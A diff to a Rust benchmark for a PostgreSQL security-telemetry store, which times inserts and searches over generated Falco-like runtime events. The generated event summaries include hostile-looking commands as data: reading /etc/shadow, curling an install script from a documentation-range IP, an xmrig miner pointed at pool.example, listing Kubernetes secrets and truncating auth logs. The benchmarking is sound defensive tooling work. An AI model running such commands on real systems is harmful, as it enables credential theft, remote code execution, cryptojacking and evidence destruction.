@@ -1,14 +1,19 @@
 //! The store on PostgreSQL (a database the bench creates and drops, through
 //! `portcullis-test-kit`; `PORTCULLIS_TEST_POSTGRES` names another server):
-//! - `insert/falco_batch`: sustained inserts of realistic runtime events (Falco JSON read
-//!   into `SecurityEvent`s, ~1.5 KB each with their raw JSON), batches of 10,000 as two
-//!   concurrent inserts of 5,000, every search index in place;
-//! - `query/*` over `TELEMETRY_BENCH_ROWS` stored events (default 10,000,000) spread over 7
-//!   days in 20 clusters, generated server-side with `INSERT ... SELECT generate_series`:
-//!   `terms_1h` (cluster and namespace over one hour, first page), `free_text_7d` (a word of
-//!   the summaries over the 7 days), `count_24h` (`type:runtime` over 24 h, counted to
-//!   10,000+), `pod_type_24h` (pod and type over 24 h), `rule_24h` (a rule over 24 h). Each
-//!   search is the first page of 100 and the count.
+//! - `insert/falco_batch_words`: sustained inserts of realistic runtime events (Falco JSON
+//!   read into `SecurityEvent`s, ~1.5 KB each with their raw JSON), batches of 10,000 as two
+//!   concurrent inserts of 5,000 (the store's `COPY` path), every search index in place, free
+//!   text indexed by words (the schema's); `insert/falco_batch_trigram`: the same with the
+//!   summary's trigram index of the first schema instead, for comparison in the same run;
+//! - `query/*` over `TELEMETRY_BENCH_ROWS` stored events (default 10,000,000) spread over 8
+//!   days, generated server-side with `INSERT ... SELECT generate_series` into the
+//!   partitioned table with every index in place: 20 clusters, 47 namespaces, 20,011 pods,
+//!   Falco-like summaries from eight templates (shells, sensitive files, outbound
+//!   connections, package managers, crypto miners rarely) with per-pod container ids,
+//!   users, pids. Each query's first page of 100 and its count; before measuring, each
+//!   prints its match count and the `EXPLAIN (ANALYZE, BUFFERS)` summary of its statements
+//!   (plan nodes, buffers, execution time), so that a figure is known to come from rows found
+//!   by the intended plan.
 #![allow(
     clippy::unwrap_used,
     clippy::expect_used,
@@ -42,32 +47,54 @@ fn falco_json(i: usize) -> String {
 
 /// The end of the generated data (the queries look back from here).
 const END: OffsetDateTime = datetime!(2026-11-30 00:00 UTC);
+/// Days of generated data before [`END`].
+const DAYS: i64 = 8;
 
-/// Generates `rows` events of tenant `bench` over the 7 days before [`END`], server-side.
+/// Generates `rows` events of tenant `bench` over the [`DAYS`] days before [`END`],
+/// server-side. Fields cycle with co-prime moduli so every combination the queries ask
+/// for occurs: type `g % 5`, cluster `g % 20`, namespace `g % 47`, pod `(g * 7919) % 20011`.
 async fn generate(store: &SqlStore, rows: u64) {
     let end = END.unix_timestamp() * 1_000_000;
-    let start = end - 7 * DAY_MICROS;
+    let start = end - DAYS * DAY_MICROS;
     store
-        .ensure_partitions((0..7).map(|d| start + d * DAY_MICROS))
+        .ensure_partitions((0..DAYS).map(|d| start + d * DAY_MICROS))
         .await
         .unwrap();
-    let chunk = 1_000_000u64;
+    let chunk = 500_000u64;
     let mut from = 0u64;
     while from < rows {
         let to = (from + chunk).min(rows);
         let t = Instant::now();
-        // Spread evenly over the 7 days; fields cycle with co-prime-ish moduli.
+        // The summary: one of eight Falco-like outputs (a crypto miner one in 100,000), with
+        // the pod's name, its container id, a user and a pid as Falco writes them.
         let sql = format!(
             "INSERT INTO tm_events (tenant_id, id, occurred_at, cluster_id, source, severity, rule, summary, action, namespace, pod, pod_uid, container, image, image_repo, digest, subresource, workload_kind, workload_name, labels, mitigation, details)
              SELECT 'bench', 'g' || g, {start} + (g * {span} / {rows}), 'cluster-' || (g % 20),
                (ARRAY['runtime','admission','finding','mitigation','signature'])[1 + g % 5], (g % 5)::smallint,
-               'rule-' || (g % 53), 'A shell was spawned in pod web-' || (g % 5000) || ' by user ' || md5(g::text),
-               (ARRAY['warning','block','open','isolate','failed'])[1 + g % 5], 'ns-' || (g % 100), 'web-' || (g % 5000),
-               'uid-' || (g % 5000), 'app', 'registry.example/web-' || (g % 200) || ':1.' || (g % 7),
-               'registry.example/web-' || (g % 200), 'sha256:' || md5((g % 200)::text), '', 'Deployment',
-               'web-' || (g % 1000), NULL, NULL, '{{\"bench\":true}}'
-             FROM generate_series({from}::bigint, {last}::bigint) AS g",
-            span = 7 * DAY_MICROS,
+               CASE WHEN g % 997 = 0 THEN 'Detect outbound connections to common miner pool ports'
+                    ELSE (ARRAY['Terminal shell in container','Read sensitive file untrusted','Launch Package Management Process in Container',
+                                'Unexpected outbound connection destination','Write below etc','Contact K8S API Server From Container',
+                                'Drop and execute new binary in container','Clear Log Activities'])[1 + g % 8] END,
+               CASE WHEN g % 100000 = 7 THEN 'Outbound connection to a crypto mining pool (command=xmrig -o stratum+tcp://pool.example:3333 connection=10.0.' || (g % 250) || '.7:3333 user=root container_id=' || c || ' k8s.pod=' || p || ')'
+                    ELSE (ARRAY[
+                      'A shell was spawned in a container with an attached terminal (user=root user_loginuid=-1 k8s.ns=' || ns || ' k8s.pod=' || p || ' container=' || c || ' shell=bash parent=runc cmdline=bash terminal=34816 image=registry.example/web)',
+                      'Sensitive file opened for reading by non-trusted program (user=' || u || ' program=cat command=cat /etc/shadow file=/etc/shadow parent=bash k8s.pod=' || p || ' container=' || c || ')',
+                      'Package management process launched in container (user=root command=apt-get install -y curl pid=' || (g % 32768) || ' k8s.pod=' || p || ' container=' || c || ')',
+                      'Disallowed outbound connection destination (command=curl http://198.51.100.' || (g % 250) || '/install.sh connection=10.0.1.4:' || (30000 + g % 30000) || '->198.51.100.' || (g % 250) || ':80 user=' || u || ' k8s.pod=' || p || ')',
+                      'File below /etc opened for writing (user=' || u || ' command=sed -i s/a/b/ /etc/resolv.conf file=/etc/resolv.conf parent=sh pid=' || (g % 32768) || ' k8s.pod=' || p || ' container=' || c || ')',
+                      'Unexpected connection to K8s API Server from container (command=kubectl get secrets -A k8s.ns=' || ns || ' k8s.pod=' || p || ' container=' || c || ' image=bitnami/kubectl)',
+                      'Executing binary not part of base image (proc.exe=/tmp/.x/run proc.cmdline=run --daemon user=' || u || ' k8s.pod=' || p || ' container=' || c || ')',
+                      'Log files were tampered (command=truncate -s 0 /var/log/auth.log file=/var/log/auth.log user=root k8s.pod=' || p || ' container=' || c || ')'
+                    ])[1 + g % 8] END,
+               (ARRAY['warning','block','open','isolate','failed'])[1 + g % 5], ns, p,
+               'uid-' || pn, 'app', 'registry.example/web-' || (pn % 200) || ':1.' || (pn % 7),
+               'registry.example/web-' || (pn % 200), 'sha256:' || md5((pn % 200)::text), '', 'Deployment',
+               'web-' || (pn % 1000), NULL, NULL, '{{\"bench\":true}}'
+             FROM (SELECT g, (g * 7919) % 20011 AS pn, 'ns-' || (g % 47) AS ns, 'web-' || ((g * 7919) % 20011) AS p,
+                          substr(md5(((g * 7919) % 20011)::text), 1, 12) AS c,
+                          (ARRAY['root','www-data','nobody','app','postgres'])[1 + g % 5 ] AS u
+                   FROM generate_series({from}::bigint, {last}::bigint) AS g) AS s",
+            span = DAYS * DAY_MICROS,
             last = to - 1,
         );
         store.connection().execute_unprepared(&sql).await.unwrap();
@@ -79,6 +106,88 @@ async fn generate(store: &SqlStore, rows: u64) {
         .execute_unprepared("ANALYZE tm_events")
         .await
         .unwrap();
+}
+
+/// Swaps the summary's index: to the trigram index of the first schema, or back to the word
+/// index of the schema (`word_index`: its definition, read before it was dropped).
+async fn summary_index(store: &SqlStore, trigram: bool, word_index: &str) {
+    let statements = if trigram {
+        [
+            "DROP INDEX ix_tm_events_summary_words",
+            "CREATE INDEX ix_tm_events_summary ON tm_events USING gin (summary gin_trgm_ops)",
+        ]
+    } else {
+        ["DROP INDEX ix_tm_events_summary", word_index]
+    };
+    for sql in statements {
+        store.connection().execute_unprepared(sql).await.unwrap();
+    }
+}
+
+/// One line per plan: its top node, the scan nodes (partitions folded), buffers and times.
+fn plan_summary(lines: &[String]) -> String {
+    let mut nodes: Vec<(String, usize)> = Vec::new();
+    let mut out = Vec::new();
+    if let Some(top) = lines.first() {
+        out.push(top.split("  (").next().unwrap_or(top).trim().to_owned());
+    }
+    for l in lines.iter().skip(1) {
+        let t = l.trim_start().trim_start_matches("->").trim();
+        if t.contains("Scan") {
+            // "Index Scan using ix_... on tm_events_p20261129 ..." folded over partitions.
+            let node = t
+                .split(" on ")
+                .next()
+                .unwrap_or(t)
+                .split("  (")
+                .next()
+                .unwrap_or(t)
+                .to_owned();
+            match nodes.iter_mut().find(|(n, _)| *n == node) {
+                Some((_, k)) => *k += 1,
+                None => nodes.push((node, 1)),
+            }
+        }
+        if t.starts_with("Rows Removed by Filter") {
+            out.push(t.to_owned());
+        }
+    }
+    for (n, k) in nodes {
+        out.push(format!("{n} ×{k}"));
+    }
+    if let Some(b) = lines.iter().find(|l| l.trim_start().starts_with("Buffers:")) {
+        out.push(b.trim().to_owned());
+    }
+    for l in lines
+        .iter()
+        .filter(|l| l.starts_with("Planning Time") || l.starts_with("Execution Time"))
+    {
+        out.push(l.clone());
+    }
+    out.join("; ")
+}
+
+fn insert_bench(c: &mut Criterion, rt: &tokio::runtime::Runtime, store: &SqlStore, name: &str, n: &mut usize) {
+    let mut g = c.benchmark_group("insert");
+    g.throughput(Throughput::Elements(10_000));
+    g.bench_function(name, |b| {
+        b.iter_custom(|iters| {
+            let mut total = Duration::ZERO;
+            for _ in 0..iters {
+                let events: Vec<SecurityEvent> = (*n..*n + 10_000)
+                    .map(|i| SecurityEvent::from_falco_json("t-insert", "prod", falco_json(i).as_bytes()).unwrap())
+                    .collect();
+                *n += 10_000;
+                let (a, b2) = events.split_at(5_000);
+                let t = Instant::now();
+                let (x, y) = rt.block_on(async { tokio::join!(store.insert_events(a), store.insert_events(b2)) });
+                total += t.elapsed();
+                assert_eq!(x.unwrap() + y.unwrap(), 10_000);
+            }
+            total
+        })
+    });
+    g.finish();
 }
 
 fn main() {
@@ -93,29 +202,26 @@ fn main() {
         .unwrap();
     let database = rt.block_on(TestDatabase::create()).unwrap();
     let store = rt.block_on(SqlStore::connect(&database.url)).unwrap();
+    let word_index = rt
+        .block_on(store.connection().query_one_raw(sea_orm::Statement::from_string(
+            sea_orm::DbBackend::Postgres,
+            "SELECT pg_get_indexdef('ix_tm_events_summary_words'::regclass) AS def",
+        )))
+        .unwrap()
+        .unwrap()
+        .try_get::<String>("", "def")
+        .unwrap()
+        // The definition of a partitioned table's index reads `ON ONLY`: recreated, it must
+        // reach the partitions.
+        .replacen(" ON ONLY ", " ON ", 1);
 
-    // Sustained inserts: fresh ids every batch (the raw JSON, hence the id, varies with n).
-    let mut g = c.benchmark_group("insert");
-    g.throughput(Throughput::Elements(10_000));
+    // Sustained inserts: fresh ids every batch (the raw JSON, hence the id, varies with n);
+    // the word index, then the trigram index, then the word index again for the queries.
     let mut n = 0usize;
-    g.bench_function("falco_batch", |b| {
-        b.iter_custom(|iters| {
-            let mut total = Duration::ZERO;
-            for _ in 0..iters {
-                let events: Vec<SecurityEvent> = (n..n + 10_000)
-                    .map(|i| SecurityEvent::from_falco_json("t-insert", "prod", falco_json(i).as_bytes()).unwrap())
-                    .collect();
-                n += 10_000;
-                let (a, b2) = events.split_at(5_000);
-                let t = Instant::now();
-                let (x, y) = rt.block_on(async { tokio::join!(store.insert_events(a), store.insert_events(b2)) });
-                total += t.elapsed();
-                assert_eq!(x.unwrap() + y.unwrap(), 10_000);
-            }
-            total
-        })
-    });
-    g.finish();
+    insert_bench(&mut c, &rt, &store, "falco_batch_words", &mut n);
+    rt.block_on(summary_index(&store, true, &word_index));
+    insert_bench(&mut c, &rt, &store, "falco_batch_trigram", &mut n);
+    rt.block_on(summary_index(&store, false, &word_index));
 
     let rows: u64 = std::env::var("TELEMETRY_BENCH_ROWS")
         .ok()
@@ -129,12 +235,18 @@ fn main() {
         from: END - time::Duration::hours(h),
         to: END,
     };
-    let queries: [(&str, &str, TimeRange); 5] = [
+    let queries: [(&str, &str, TimeRange); 7] = [
         ("terms_1h", "cluster:cluster-3 namespace:ns-23", hours(1)),
-        ("free_text_7d", "c4ca42", hours(24 * 7)),
+        ("free_text_common_7d", "shell", hours(24 * 7)),
+        ("free_text_rare_7d", "xmrig", hours(24 * 7)),
+        ("free_text_phrase_7d", "\"cat /etc/shadow\"", hours(24 * 7)),
         ("count_24h", "type:runtime", hours(24)),
         ("pod_type_24h", "pod:web-42 type:admission", hours(24)),
-        ("rule_24h", "rule:rule-7", hours(24)),
+        (
+            "rule_24h",
+            "rule:\"Detect outbound connections to common miner pool ports\"",
+            hours(24),
+        ),
     ];
     let mut g = c.benchmark_group("query");
     for (name, q, range) in queries {
@@ -147,6 +259,11 @@ fn main() {
             first.total,
             if first.total_is_lower_bound { "+" } else { "" }
         );
+        assert!(first.total > 0, "{name} matches no row: not a measurement");
+        let plans = rt.block_on(store.explain_search("bench", &query, range)).unwrap();
+        for (what, plan) in ["page", "count"].iter().zip(&plans) {
+            eprintln!("  {what}: {}", plan_summary(plan));
+        }
         g.bench_function(name, |b| {
             b.iter(|| black_box(rt.block_on(store.search("bench", &query, range, &page)).unwrap()))
         });
